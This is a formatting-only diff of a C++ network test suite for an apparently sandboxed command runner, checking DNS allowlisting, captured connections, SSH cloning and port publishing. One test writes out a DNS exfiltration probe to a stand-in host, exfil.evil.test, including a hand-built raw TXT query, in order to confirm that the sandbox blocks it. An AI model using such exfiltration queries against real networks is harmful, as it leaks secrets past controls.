@@ -119,7 +119,8 @@ struct Background {
     ::close(p[1]);
     pollfd pf{p[0], POLLIN, 0};
     char c;
-    while (wait_for_line && ::poll(&pf, 1, 10000) > 0 && ::read(p[0], &c, 1) == 1 && c != '\n') b.first_line += c;
+    while (wait_for_line && ::poll(&pf, 1, 10000) > 0 && ::read(p[0], &c, 1) == 1 && c != '\n')
+      b.first_line += c;
     ::close(p[0]);
     return b;
   }
@@ -199,8 +200,8 @@ class Network : public ::testing::Test {
 
   // `parallex run FLAGS -- sh -c SCRIPT` in the work folder; `resolve` is the
   // test hook's map (NAME.test=127.0.0.1,...).
-  Outcome run(const std::vector<std::string>& flags, const std::string& script, const std::string& resolve = {},
-              const std::vector<std::string>& env = {}) {
+  Outcome run(const std::vector<std::string>& flags, const std::string& script,
+              const std::string& resolve = {}, const std::vector<std::string>& env = {}) {
     std::vector<std::string> argv{kExe, "run", "--in", (root_ / "work").string()};
     argv.insert(argv.end(), flags.begin(), flags.end());
     argv.insert(argv.end(), {"--", "sh", "-c", script});
@@ -228,7 +229,8 @@ class Network : public ::testing::Test {
       if (!l.empty()) lines.push_back(json::parse(l));
     return lines;
   }
-  static std::vector<json> where(const std::vector<json>& lines, const std::string& method, const std::string& host) {
+  static std::vector<json> where(const std::vector<json>& lines, const std::string& method,
+                                 const std::string& host) {
     std::vector<json> out;
     for (const auto& l : lines)
       if (l["method"] == method && l["host"] == host) out.push_back(l);
@@ -244,15 +246,17 @@ class Network : public ::testing::Test {
 };
 
 TEST_F(Network, GetentResolvesAllowedNamesToSyntheticAddressesAndNothingElse) {
-  const auto r = run({"--allow", "allowed.test"},
-                     "getent ahostsv4 api.allowed.test | head -1; getent ahostsv6 api.allowed.test | head -1; "
-                     "getent hosts evil.test; echo denied=$?; getent hosts localhost | head -1; cat /etc/resolv.conf");
+  const auto r =
+      run({"--allow", "allowed.test"},
+          "getent ahostsv4 api.allowed.test | head -1; getent ahostsv6 api.allowed.test | head -1; "
+          "getent hosts evil.test; echo denied=$?; getent hosts localhost | head -1; cat /etc/resolv.conf");
   ASSERT_EQ(r.status, 0) << r.out << r.err;
   EXPECT_NE(r.out.find("198.18."), std::string::npos) << "IPv4 from the run's range: " << r.out;
   EXPECT_NE(r.out.find("fd"), std::string::npos) << "IPv6 from the run's unique-local /64: " << r.out;
   EXPECT_NE(r.out.find("denied=2"), std::string::npos) << "getent: 2 = not found: " << r.out;
   EXPECT_NE(r.out.find("nameserver 127.0.0.1"), std::string::npos) << r.out;
-  EXPECT_NE(r.err.find("refused (outside the rule): evil.test (DNS query)  blocked-by-allowlist"), std::string::npos)
+  EXPECT_NE(r.err.find("refused (outside the rule): evil.test (DNS query)  blocked-by-allowlist"),
+            std::string::npos)
       << r.err;
   const auto lines = log();
   const auto allowed = where(lines, "DNS", "api.allowed.test");
@@ -272,7 +276,8 @@ TEST_F(Network, CurlWithoutProxyAndNodeFetchAreCaptured) {
   std::string script = "curl -sS --noproxy '*' --max-time 10 http://web.test:" + port + "/curl; echo";
   if (have("node"))
     script += "; node -e 'fetch(\"http://web.test:" + port +
-              "/node\").then(r => r.text()).then(t => console.log(\"node:\", t), e => console.log(\"node error\", e))'";
+              "/node\").then(r => r.text()).then(t => console.log(\"node:\", t), e => console.log(\"node "
+              "error\", e))'";
   const auto r = run({"--allow", "web.test:" + port, "--local-servers"}, script, "web.test=127.0.0.1");
   ASSERT_EQ(r.status, 0) << r.out << r.err;
   EXPECT_NE(r.out.find("hello from the host\n"), std::string::npos) << r.out << r.err;
@@ -292,10 +297,11 @@ TEST_F(Network, CurlWithoutProxyAndNodeFetchAreCaptured) {
 TEST_F(Network, PythonSocketAndTlsToAnAllowedHostAndSniMismatchRefused) {
   if (!have("python3") || !have("openssl")) GTEST_SKIP() << "python3 or openssl is not installed";
   const fs::path cert = root_ / "cert.pem", key = root_ / "key.pem";
-  const auto made = spawn_and_wait({"openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
-                                    "-nodes", "-days", "1", "-subj", "/CN=tls.test", "-addext",
-                                    "subjectAltName=DNS:tls.test", "-keyout", key.string(), "-out", cert.string()},
-                                   {}, root_ / "logs");
+  const auto made =
+      spawn_and_wait({"openssl", "req", "-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256",
+                      "-nodes", "-days", "1", "-subj", "/CN=tls.test", "-addext",
+                      "subjectAltName=DNS:tls.test", "-keyout", key.string(), "-out", cert.string()},
+                     {}, root_ / "logs");
   ASSERT_EQ(made.status, 0) << made.err;
   fs::copy_file(cert, root_ / "work" / "ca.pem");
   Background server = Background::start({"python3", kHere + "/tls_server.py", cert.string(), key.string()});
@@ -342,10 +348,11 @@ TEST_F(Network, GoClientWithProxyNilResolvesAndConnectsThroughTheRun) {
   HttpServer web;
   const fs::path bin = root_ / "work" / "noproxy_get";
   // Built outside the seal (static, Go's own resolver); a cache shared between test runs.
-  const auto built = spawn_and_wait({"go", "build", "-o", bin.string(), kHere + "/noproxy_get.go"},
-                                    {"CGO_ENABLED=0", "GOCACHE=/tmp/px-network-gocache-" + std::to_string(::getuid()),
-                                     "GOPATH=" + (root_ / "gopath").string(), "GO111MODULE=off"},
-                                    root_ / "logs", 300s);
+  const auto built =
+      spawn_and_wait({"go", "build", "-o", bin.string(), kHere + "/noproxy_get.go"},
+                     {"CGO_ENABLED=0", "GOCACHE=/tmp/px-network-gocache-" + std::to_string(::getuid()),
+                      "GOPATH=" + (root_ / "gopath").string(), "GO111MODULE=off"},
+                     root_ / "logs", 300s);
   ASSERT_EQ(built.status, 0) << built.out << built.err;
   const std::string url = "http://web.test:" + std::to_string(web.port()) + "/go";
   const auto r = run({"--allow", "web.test:" + std::to_string(web.port()), "--local-servers"},
@@ -360,15 +367,18 @@ TEST_F(Network, GitCloneOverSshFromATestSshdWithTheAgentsOwnKey) {
     GTEST_SKIP() << "git, ssh or sshd is not installed (apt-get install openssh-server)";
   const fs::path s = root_ / "sshd";
   fs::create_directories(s);
-  const auto keygen = spawn_and_wait({"ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", (s / "host").string()}, {},
-                                     root_ / "logs");
+  const auto keygen = spawn_and_wait(
+      {"ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", (s / "host").string()}, {}, root_ / "logs");
   ASSERT_EQ(keygen.status, 0) << keygen.err;
   // The repository the run clones.
   const fs::path repo = s / "repo.git";
-  const std::vector<std::string> git_env{"GIT_CONFIG_NOSYSTEM=1", "HOME=" + s.string(), "GIT_AUTHOR_NAME=t",
-                                         "GIT_AUTHOR_EMAIL=t@t", "GIT_COMMITTER_NAME=t", "GIT_COMMITTER_EMAIL=t@t"};
-  ASSERT_EQ(spawn_and_wait({"git", "init", "-q", "--bare", "-b", "main", repo.string()}, git_env, root_ / "logs").status,
-            0);
+  const std::vector<std::string> git_env{"GIT_CONFIG_NOSYSTEM=1", "HOME=" + s.string(),
+                                         "GIT_AUTHOR_NAME=t",     "GIT_AUTHOR_EMAIL=t@t",
+                                         "GIT_COMMITTER_NAME=t",  "GIT_COMMITTER_EMAIL=t@t"};
+  ASSERT_EQ(
+      spawn_and_wait({"git", "init", "-q", "--bare", "-b", "main", repo.string()}, git_env, root_ / "logs")
+          .status,
+      0);
   const auto seeded = spawn_and_wait(
       {"sh", "-c",
        "set -e; git init -q -b main " + (s / "seed").string() + " && cd " + (s / "seed").string() +
@@ -394,13 +404,14 @@ TEST_F(Network, GitCloneOverSshFromATestSshdWithTheAgentsOwnKey) {
   ASSERT_NE(pw, nullptr);
   const std::vector<std::string> px_env{"PARALLEX_HOME=" + (root_ / "home").string(),
                                         "XDG_RUNTIME_DIR=" + (root_ / "runtime").string()};
-  const auto made = spawn_and_wait({kExe, "agent", "new", "sshbot", "--email", "sshbot@example.com", "--allow",
-                                    "gitsrv.test:" + port, "--local-servers", "on"},
+  const auto made = spawn_and_wait({kExe, "agent", "new", "sshbot", "--email", "sshbot@example.com",
+                                    "--allow", "gitsrv.test:" + port, "--local-servers", "on"},
                                    px_env, root_ / "logs");
   ASSERT_EQ(made.status, 0) << made.err;
   fs::path agent_key;
   for (const auto& e : fs::recursive_directory_iterator(root_ / "home"))
-    if (e.path().filename() == "id_ed25519.pub" && e.path().parent_path().parent_path().filename() == "sshbot")
+    if (e.path().filename() == "id_ed25519.pub" &&
+        e.path().parent_path().parent_path().filename() == "sshbot")
       agent_key = e.path();
   ASSERT_FALSE(agent_key.empty());
   fs::copy_file(agent_key, s / "authorized_keys");
@@ -416,7 +427,8 @@ TEST_F(Network, GitCloneOverSshFromATestSshdWithTheAgentsOwnKey) {
          "PermitRootLogin prohibit-password\nUsePAM no\nPidFile "
       << (s / "pid").string() << "\n";
   }
-  Background sshd = Background::start({"/usr/sbin/sshd", "-f", (s / "sshd_config").string(), "-D", "-e"}, false);
+  Background sshd =
+      Background::start({"/usr/sbin/sshd", "-f", (s / "sshd_config").string(), "-D", "-e"}, false);
   for (int i = 0; i < 100; ++i) {
     const int t = ::socket(AF_INET, SOCK_STREAM, 0);
     a.sin_port = htons(static_cast<std::uint16_t>(std::stoi(port)));
@@ -428,9 +440,18 @@ TEST_F(Network, GitCloneOverSshFromATestSshdWithTheAgentsOwnKey) {
 
   // The agent's run: git's ssh is the agent's (its key, its known hosts), the
   // connection is captured (no ProxyCommand), the user's ~/.ssh stays hidden.
-  std::vector<std::string> argv{kExe, "agent", "run", "sshbot", "--in", (root_ / "work").string(), "--", "sh", "-c",
+  std::vector<std::string> argv{kExe,
+                                "agent",
+                                "run",
+                                "sshbot",
+                                "--in",
+                                (root_ / "work").string(),
+                                "--",
+                                "sh",
+                                "-c",
                                 "git clone -q ssh://" + std::string(pw->pw_name) + "@gitsrv.test:" + port +
-                                    repo.string() + " clone && cat clone/README; ls ~/.ssh 2>&1 | head -1; "
+                                    repo.string() +
+                                    " clone && cat clone/README; ls ~/.ssh 2>&1 | head -1; "
                                     "echo auth_sock=${SSH_AUTH_SOCK:-unset}"};
   std::vector<std::string> env = px_env;
   env.push_back("PARALLEX_TEST_RESOLVE=gitsrv.test=127.0.0.1");
@@ -438,7 +459,8 @@ TEST_F(Network, GitCloneOverSshFromATestSshdWithTheAgentsOwnKey) {
   const auto r = spawn_and_wait(argv, env, root_ / "logs", 120s);
   ASSERT_EQ(r.status, 0) << r.out << r.err;
   EXPECT_NE(r.out.find("cloned over ssh"), std::string::npos) << r.out << r.err;
-  EXPECT_NE(r.out.find("auth_sock=unset"), std::string::npos) << "the user's ssh-agent is not passed: " << r.out;
+  EXPECT_NE(r.out.find("auth_sock=unset"), std::string::npos)
+      << "the user's ssh-agent is not passed: " << r.out;
   const auto lines = log();
   const auto tcp = where(lines, "TCP", "gitsrv.test");
   ASSERT_FALSE(tcp.empty()) << dump(lines);
@@ -453,9 +475,12 @@ TEST_F(Network, DnsExfiltrationEndsInTheRun) {
   const std::string secret = label + ".exfil.evil.test";
   // A raw TXT query too (what exfiltration tools use), and a query to a DNS
   // server outside: no packet leaves the namespace.
-  const std::string script = "getent hosts " + secret + "; echo getent=$?; python3 - <<'EOF'\n"
+  const std::string script = "getent hosts " + secret +
+                             "; echo getent=$?; python3 - <<'EOF'\n"
                              "import socket, struct\n"
-                             "name = '" + secret + "'\n"
+                             "name = '" +
+                             secret +
+                             "'\n"
                              "q = struct.pack('>HHHHHH', 0x1234, 0x0100, 1, 0, 0, 0)\n"
                              "q += b''.join(bytes([len(p)]) + p.encode() for p in name.split('.')) + b'\\0'\n"
                              "q += struct.pack('>HH', 16, 1)\n"
@@ -485,22 +510,27 @@ TEST_F(Network, DnsExfiltrationEndsInTheRun) {
 TEST_F(Network, RefusedAtOnceOutsideTheCapturedPortsAndUdpRefused) {
   HttpServer web;
   const std::string port = std::to_string(web.port());
-  const std::string script = "python3 - <<'EOF'\n"
-                             "import socket, time\n"
-                             "def tcp(host, port):\n"
-                             "    t = time.monotonic()\n"
-                             "    try:\n"
-                             "        socket.create_connection((host, port), timeout=5).close(); return 'open'\n"
-                             "    except OSError as e: return '%d in %.1fs' % (e.errno, time.monotonic() - t)\n"
-                             "web = socket.getaddrinfo('web.test', None, socket.AF_INET)[0][4][0]\n"
-                             "print('never allowed', tcp('198.18.0.200', 443))\n"
-                             "print('other port', tcp(web, " + std::to_string(web.port() == 65535 ? 1 : web.port() + 1) + "))\n"
-                             "print('allowed port', tcp(web, " + port + "))\n"
-                             "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3); u.connect((web, 443))\n"
-                             "u.send(b'quic initial')\n"
-                             "try: u.recv(100); print('udp answered?!')\n"
-                             "except OSError as e: print('udp', e.errno)\n"
-                             "EOF";
+  const std::string script =
+      "python3 - <<'EOF'\n"
+      "import socket, time\n"
+      "def tcp(host, port):\n"
+      "    t = time.monotonic()\n"
+      "    try:\n"
+      "        socket.create_connection((host, port), timeout=5).close(); return 'open'\n"
+      "    except OSError as e: return '%d in %.1fs' % (e.errno, time.monotonic() - t)\n"
+      "web = socket.getaddrinfo('web.test', None, socket.AF_INET)[0][4][0]\n"
+      "print('never allowed', tcp('198.18.0.200', 443))\n"
+      "print('other port', tcp(web, " +
+      std::to_string(web.port() == 65535 ? 1 : web.port() + 1) +
+      "))\n"
+      "print('allowed port', tcp(web, " +
+      port +
+      "))\n"
+      "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3); u.connect((web, 443))\n"
+      "u.send(b'quic initial')\n"
+      "try: u.recv(100); print('udp answered?!')\n"
+      "except OSError as e: print('udp', e.errno)\n"
+      "EOF";
   const auto r = run({"--allow", "web.test:" + port, "--local-servers"}, script, "web.test=127.0.0.1");
   ASSERT_EQ(r.status, 0) << r.out << r.err;
   EXPECT_NE(r.out.find("never allowed 111 in 0.0s"), std::string::npos) << "ECONNREFUSED at once: " << r.out;
@@ -512,23 +542,25 @@ TEST_F(Network, RefusedAtOnceOutsideTheCapturedPortsAndUdpRefused) {
 TEST_F(Network, GarbageOnACapturedConnectionOrTheDnsIsRefusedAndServingGoesOn) {
   HttpServer web;
   const std::string port = std::to_string(web.port());
-  const std::string script = "python3 - <<'EOF'\n"
-                             "import socket, struct\n"
-                             "s = socket.create_connection(('web.test', 443), timeout=5)\n"
-                             "s.sendall(b'\\x00\\x01 not tls, not http\\r\\n\\r\\n')\n"
-                             "try: print('garbage answer', s.recv(100))\n"
-                             "except OSError as e: print('garbage reset', e.errno)\n"
-                             "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)\n"
-                             "u.sendto(b'\\xff' * 7, ('127.0.0.1', 53))\n"
-                             "try: u.recv(512); print('short answered?!')\n"
-                             "except OSError: print('short dropped')\n"
-                             "u.sendto(struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0) + b'\\x05web', ('127.0.0.1', 53))\n"
-                             "a = u.recv(512); print('formerr', a[3] & 15)\n"
-                             "t = socket.create_connection(('127.0.0.1', 53), timeout=5)\n"
-                             "t.sendall(b'\\x00\\x03abc')\n"
-                             "print('tcp dns garbage closed', t.recv(10) == b'')\n"
-                             "EOF\n"
-                             "curl -sS --noproxy '*' --max-time 10 http://web.test:" + port + "/after";
+  const std::string script =
+      "python3 - <<'EOF'\n"
+      "import socket, struct\n"
+      "s = socket.create_connection(('web.test', 443), timeout=5)\n"
+      "s.sendall(b'\\x00\\x01 not tls, not http\\r\\n\\r\\n')\n"
+      "try: print('garbage answer', s.recv(100))\n"
+      "except OSError as e: print('garbage reset', e.errno)\n"
+      "u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(1)\n"
+      "u.sendto(b'\\xff' * 7, ('127.0.0.1', 53))\n"
+      "try: u.recv(512); print('short answered?!')\n"
+      "except OSError: print('short dropped')\n"
+      "u.sendto(struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0) + b'\\x05web', ('127.0.0.1', 53))\n"
+      "a = u.recv(512); print('formerr', a[3] & 15)\n"
+      "t = socket.create_connection(('127.0.0.1', 53), timeout=5)\n"
+      "t.sendall(b'\\x00\\x03abc')\n"
+      "print('tcp dns garbage closed', t.recv(10) == b'')\n"
+      "EOF\n"
+      "curl -sS --noproxy '*' --max-time 10 http://web.test:" +
+      port + "/after";
   const auto r = run({"--allow", "web.test", "--allow", "web.test:" + port, "--local-servers"}, script,
                      "web.test=127.0.0.1");
   ASSERT_EQ(r.status, 0) << r.out << r.err;
@@ -554,14 +586,15 @@ TEST_F(Network, AListenerInsideIsNotReachableFromTheHost) {
   const fs::path marker = root_ / "work" / "port";
   std::thread host_side;
   std::string from_host;
-  const std::string script = "python3 - <<'EOF'\n"
-                             "import socket, time, os\n"
-                             "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()\n"
-                             "open('port.tmp', 'w').write(str(s.getsockname()[1])); os.rename('port.tmp', 'port')\n"
-                             "s.settimeout(3)\n"
-                             "try: s.accept(); print('accepted from outside?!')\n"
-                             "except OSError: print('no one came')\n"
-                             "EOF";
+  const std::string script =
+      "python3 - <<'EOF'\n"
+      "import socket, time, os\n"
+      "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen()\n"
+      "open('port.tmp', 'w').write(str(s.getsockname()[1])); os.rename('port.tmp', 'port')\n"
+      "s.settimeout(3)\n"
+      "try: s.accept(); print('accepted from outside?!')\n"
+      "except OSError: print('no one came')\n"
+      "EOF";
   host_side = std::thread([&] {
     for (int i = 0; i < 500 && !fs::exists(marker); ++i) std::this_thread::sleep_for(10ms);
     const int port = std::atoi(slurp(marker).c_str());
@@ -570,7 +603,8 @@ TEST_F(Network, AListenerInsideIsNotReachableFromTheHost) {
     a.sin_family = AF_INET;
     a.sin_port = htons(static_cast<std::uint16_t>(port));
     a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
-    from_host = ::connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0 ? "connected" : std::to_string(errno);
+    from_host =
+        ::connect(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) == 0 ? "connected" : std::to_string(errno);
     ::close(fd);
   });
   const auto inside = run({"--allow", "allowed.test", "--local-servers"}, script);
@@ -582,14 +616,14 @@ TEST_F(Network, AListenerInsideIsNotReachableFromTheHost) {
 
 TEST_F(Network, LocalServersMirroredIntoTheRunAndPublishedOut) {
   HttpServer web;
-  const auto mirrored = run({"--allow", "allowed.test", "--local-servers"},
-                            "curl -sS --noproxy '*' --max-time 10 http://localhost:" + std::to_string(web.port()) + "/");
+  const auto mirrored =
+      run({"--allow", "allowed.test", "--local-servers"},
+          "curl -sS --noproxy '*' --max-time 10 http://localhost:" + std::to_string(web.port()) + "/");
   ASSERT_EQ(mirrored.status, 0) << mirrored.out << mirrored.err;
   EXPECT_EQ(mirrored.out, "hello from the host");
   // Without Local servers nothing of this machine shows inside.
-  const auto off = run({"--allow", "allowed.test"},
-                       "curl -sS --noproxy '*' --max-time 5 http://localhost:" + std::to_string(web.port()) +
-                           "/; echo rc=$?");
+  const auto off = run({"--allow", "allowed.test"}, "curl -sS --noproxy '*' --max-time 5 http://localhost:" +
+                                                        std::to_string(web.port()) + "/; echo rc=$?");
   EXPECT_NE(off.out.find("rc=7"), std::string::npos) << off.out << off.err;
 
   // Published: a server inside on 127.0.0.1:PORT, reached from here on HOSTPORT.
@@ -606,20 +640,22 @@ TEST_F(Network, LocalServersMirroredIntoTheRunAndPublishedOut) {
   std::thread client([&] {
     for (int i = 0; i < 300 && fetched.find("inside") == std::string::npos; ++i) {
       std::this_thread::sleep_for(20ms);
-      const auto c = spawn_and_wait({"curl", "-sS", "--max-time", "2", "http://127.0.0.1:" + std::to_string(host_port) + "/"},
-                                    {}, root_ / "logs");
+      const auto c = spawn_and_wait(
+          {"curl", "-sS", "--max-time", "2", "http://127.0.0.1:" + std::to_string(host_port) + "/"}, {},
+          root_ / "logs");
       fetched = c.out;
     }
   });
-  const auto served = run({"--offline", "--publish", "18999:" + std::to_string(host_port)},
-                          "python3 - <<'EOF'\n"
-                          "import http.server\n"
-                          "class H(http.server.BaseHTTPRequestHandler):\n"
-                          "    def do_GET(self):\n"
-                          "        self.send_response(200); self.end_headers(); self.wfile.write(b'served from inside')\n"
-                          "    def log_message(self, *a): pass\n"
-                          "s = http.server.HTTPServer(('127.0.0.1', 18999), H); s.timeout = 10; s.handle_request()\n"
-                          "EOF");
+  const auto served =
+      run({"--offline", "--publish", "18999:" + std::to_string(host_port)},
+          "python3 - <<'EOF'\n"
+          "import http.server\n"
+          "class H(http.server.BaseHTTPRequestHandler):\n"
+          "    def do_GET(self):\n"
+          "        self.send_response(200); self.end_headers(); self.wfile.write(b'served from inside')\n"
+          "    def log_message(self, *a): pass\n"
+          "s = http.server.HTTPServer(('127.0.0.1', 18999), H); s.timeout = 10; s.handle_request()\n"
+          "EOF");
   client.join();
   EXPECT_EQ(served.status, 0) << served.out << served.err;
   EXPECT_EQ(fetched, "served from inside");
@@ -627,9 +663,12 @@ TEST_F(Network, LocalServersMirroredIntoTheRunAndPublishedOut) {
 
 TEST_F(Network, MalformedHostPortRulesAreRefusedWithTheFix) {
   const std::pair<const char*, const char*> cases[] = {
-      {"web.test:0", "between 1 and 65535"},   {"web.test:65536", "between 1 and 65535"},
-      {"web.test:20-30", "one port per rule"}, {"https://web.test", "scheme"},
-      {"com", "public suffix"},                {"*.co.uk:443", "public suffix"},
+      {"web.test:0", "between 1 and 65535"},
+      {"web.test:65536", "between 1 and 65535"},
+      {"web.test:20-30", "one port per rule"},
+      {"https://web.test", "scheme"},
+      {"com", "public suffix"},
+      {"*.co.uk:443", "public suffix"},
   };
   for (const auto& [rule, fix] : cases) {
     const auto r = run({"--allow", rule}, "echo ran");
@@ -676,13 +715,15 @@ TEST(NetworkUnprivileged, AsUnprivilegedUser) {
   int status = 0;
   ::waitpid(child, &status, 0);
   int inner_skips = 0;
-  for (std::size_t at = text.find("[  SKIPPED ]"); at != std::string::npos; at = text.find("[  SKIPPED ]", at)) {
+  for (std::size_t at = text.find("[  SKIPPED ]"); at != std::string::npos;
+       at = text.find("[  SKIPPED ]", at)) {
     text.replace(at, 12, "[ skipped  ]");
     ++inner_skips;
   }
   std::printf("---- the suite as %s (uid %u), %d skip lines ----\n%s---- end ----\n", user, uid, inner_skips,
               text.c_str());
-  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0) << "the unprivileged pass failed (status " << status << ")";
+  EXPECT_TRUE(WIFEXITED(status) && WEXITSTATUS(status) == 0)
+      << "the unprivileged pass failed (status " << status << ")";
 }
 
 }  // namespace
